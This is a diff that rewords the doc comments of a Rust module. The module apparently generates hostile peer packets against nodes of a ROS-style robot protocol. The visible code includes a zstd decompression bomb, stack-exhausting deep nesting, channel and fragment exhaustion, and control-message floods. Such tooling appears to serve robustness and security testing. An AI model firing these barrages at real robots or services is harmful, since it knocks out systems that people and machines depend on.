@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
-//! What a peer sends that has turned against a node: kinds of packets, each filled so that it
-//! is as expensive to take as it can be.
+//! Packets of a peer that has turned against a node. Each kind fills its packets so that they are
+//! as expensive to process as possible.
 
 use super::peer::{FRAMES, Peer, ack, data, drawn, fill, topic};
 use clap::ValueEnum;
@@ -15,31 +15,33 @@ use tautline_proto::wire::frame::{
 use tautline_proto::wire::relay::{Held, RelayHeader, ShortName};
 use tautline_proto::{OfferedTopic, PublicKey, Role};
 
-/// The topic of the attacker that a node of the victim's robot listens to.
+/// Topic of the attacker to which a ROS node on the victim's robot subscribes.
 const HEARD_TOPIC: &str = "/attacked/text";
-/// The service of the victim's robot that peers may call.
+/// Service of the victim's robot that peers may call.
 pub const CALLED_SERVICE: &str = "/attacked/get_loggers";
 
 /// Longest definition that the protocol carries.
 const DEFINITION_BYTES: usize = 1 << 20;
-/// Largest message that a node takes by default; and one of which 256 are incomplete at once.
+/// Largest message that a node accepts by default, and below a size of which 256 messages are
+/// incomplete at the same time.
 const MESSAGE_BYTES: u32 = 8_000_000;
 const SMALL_MESSAGE_BYTES: u32 = 60_000;
-/// What a compressed block of one byte, repeated, becomes at most (RFC 8878, 3.1.1.2.4).
+/// Largest size to which a compressed block of one repeated byte expands (RFC 8878, 3.1.1.2.4).
 const BLOCK_BYTES: u32 = 128 << 10;
-/// Channels of one peer that a node takes.
+/// Channels that a node accepts from one peer.
 const CHANNELS: u64 = 4096;
-/// Packets in packets that a datagram has room for; and more than the stack of a thread has.
+/// Levels of nested packets that fit into a datagram, and below a number of levels that exceeds the
+/// stack of a thread.
 const SHALLOW: u64 = 34;
 const DEEP: u64 = 5000;
-/// Control messages that are sent without waiting for acknowledgements: only where some are
-/// lost has the victim to wait for those that are repeated.
+/// Control messages sent without waiting for acknowledgements. The victim waits for repeated ones
+/// only where some are lost.
 const WINDOW: usize = 20_000;
 /// Frames of control messages that are kept ready.
 const READY: usize = 400;
-/// A call in a new life is repeated so often before the next.
+/// Number of times that an initiation of one session epoch is sent before the next epoch.
 const CALLS_OF_A_LIFE: u64 = 20;
-/// How long the victim may take to answer what a kind needs before it begins.
+/// Longest wait for the victim's responses that a kind needs before it starts.
 const PATIENCE: Duration = Duration::from_secs(5);
 
 /// One kind of packets.
@@ -100,45 +102,45 @@ pub enum Kind {
 }
 
 impl Kind {
-    /// As on the command line.
+    /// Returns the name on the command line.
     pub fn name(self) -> String {
         self.to_possible_value().map_or(String::new(), |value| value.get_name().into())
     }
 }
 
-/// One kind under way.
+/// One kind of packets in progress.
 pub struct Barrage {
     kind: Kind,
-    /// Short names of the attacker's neighbours: the victim, and the node that it talks to.
+    /// Short names of the attacker's neighbours: the victim, and the victim's other peer.
     neighbours: [ShortName; 2],
-    /// Grows with whatever is to be new.
+    /// Counter for everything that must be new.
     count: u64,
-    /// Frames made before it began.
+    /// Frames made before the start.
     frames: VecDeque<Vec<u8>>,
     datagram: Vec<u8>,
 }
 
-/// A topic of ours whose messages rospy knows.
+/// Returns a topic of the attacker whose message type rospy knows.
 fn text_topic(name: &str) -> OfferedTopic {
     topic(name, "std_msgs/String", "992ce8a1687cec8c8bd883ec73ca41d1")
 }
 
-/// The definition of [`text_topic`]'s type.
+/// Definition of [`text_topic`]'s type.
 const TEXT_DEFINITION: &str = "string data\n";
 
-/// A name of nearly 1000 bytes.
+/// Returns a name of nearly 1000 bytes.
 fn long_name(number: u64) -> String {
     format!("/attacked/{number:0>960}")
 }
 
 impl Barrage {
-    /// Against the owner of the first key.
+    /// Creates a barrage against the owner of the first key.
     pub fn new(kind: Kind, neighbours: [&PublicKey; 2]) -> Self {
         let neighbours = neighbours.map(PublicKey::short_name);
         Self { kind, neighbours, count: 0, frames: VecDeque::new(), datagram: Vec::new() }
     }
 
-    /// What has to be agreed or made before it begins; whether the victim agreed.
+    /// Agrees on or makes everything that the kind needs; returns whether the victim agreed.
     pub fn prepare(&mut self, peer: &mut Peer) -> io::Result<bool> {
         peer.definition = Some(TEXT_DEFINITION.into());
         peer.window = WINDOW;
@@ -221,7 +223,7 @@ impl Barrage {
         self.count
     }
 
-    /// Frames of one packet.
+    /// Returns the frames of one packet.
     fn packet(&mut self, peer: &mut Peer) -> Vec<u8> {
         match self.kind {
             Kind::Challenges => fill(|out| put_challenge(self.next(), out)),
@@ -246,7 +248,7 @@ impl Barrage {
                 let bomb = bomb();
                 fill(|out| Data { encoded: true, ..data(1, self.next(), None) }.emit(&bomb, out))
             }
-            // Which call it is; the request is empty.
+            // The byte is the number of the call; the request is empty.
             Kind::Calls => fill(|out| {
                 let number = self.next();
                 data(1, number, None).emit(&[number as u8 & 0x7f], out);
@@ -293,7 +295,7 @@ impl Barrage {
         data(u8::MAX.into(), peer.next_relay(), None).emit_relay(&payload, out);
     }
 
-    /// Of messages for others, which need not be wanted.
+    /// Emits the first fragment of a message to relay, which needs no subscription.
     fn fragment(&mut self, out: &mut Vec<u8>) {
         let number = self.next();
         let total = if number.is_multiple_of(8) { MESSAGE_BYTES } else { SMALL_MESSAGE_BYTES };
@@ -308,10 +310,10 @@ impl Barrage {
         data(0, number, place).emit(b"x", out);
     }
 
-    /// Has control messages wait; whether there are any.
+    /// Queues control messages; returns whether there are any.
     fn add_control(&mut self, peer: &mut Peer) -> bool {
         let number = self.next();
-        // Numbers of channels are not used again.
+        // Channel numbers are not reused.
         let channel = number + 1;
         match self.kind {
             Kind::Offers => {
@@ -346,7 +348,7 @@ impl Barrage {
     }
 }
 
-/// Control messages about a channel of the victim's.
+/// Returns control messages about a channel of the victim.
 fn about(kind: Kind, channel: u64, number: u64) -> Vec<Control> {
     match kind {
         Kind::Wants => [true, false].map(|wanted| Control::Want { channel, wanted }).into(),
@@ -355,7 +357,8 @@ fn about(kind: Kind, channel: u64, number: u64) -> Vec<Control> {
     }
 }
 
-/// 8 MB of zeros, compressed (RFC 8878): a frame that tells its size, and blocks of one byte each.
+/// Returns 8 MB of zeros, compressed (RFC 8878): a frame that states its size, and blocks of one
+/// byte each.
 fn bomb() -> Vec<u8> {
     let mut frame = vec![0x28, 0xb5, 0x2f, 0xfd, 0xa0];
     frame.extend_from_slice(&MESSAGE_BYTES.to_le_bytes());
